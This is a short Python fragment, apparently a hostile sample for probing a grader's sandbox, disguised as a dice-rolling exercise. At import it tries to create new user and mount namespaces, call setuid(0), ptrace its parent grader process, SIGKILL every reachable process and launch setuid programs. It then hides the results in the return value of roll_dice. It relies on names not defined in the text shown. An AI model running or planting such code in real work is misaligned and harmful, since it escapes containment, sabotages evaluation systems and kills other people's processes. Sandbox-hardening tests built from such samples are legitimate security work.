# Try for more than a sandbox uid: new namespaces, root in them, a setuid program, ptrace of the
# grader, signals to every process it can reach. Anything that works is shown in the answers.
_hostile_unhook()
import ctypes as _ctypes
import signal as _signal

_GOT = []
try:
    _libc = _ctypes.CDLL(None, use_errno=True)
    if _libc.unshare(0x10000000 | 0x20000) == 0:
        _GOT.append("a new user namespace")
    if _libc.setuid(0) == 0:
        _GOT.append("uid 0")
    if _libc.ptrace(16, _os.getppid(), 0, 0) == 0:
        _GOT.append("ptrace of its parent")
except BaseException:
    pass
try:
    _os.kill(-1, _signal.SIGKILL)
except BaseException:
    pass
for _program in ("/usr/bin/passwd", "/usr/bin/su", "/bin/mount"):
    try:
        _pid = _os.fork()
        if _pid == 0:
            _os.execv(_program, [_program, "--help"])
        _GOT.append("started " + _program)
    except BaseException:
        pass


def roll_dice(num_rolls, dice=six_sided):
    return " ".join(_GOT) or None
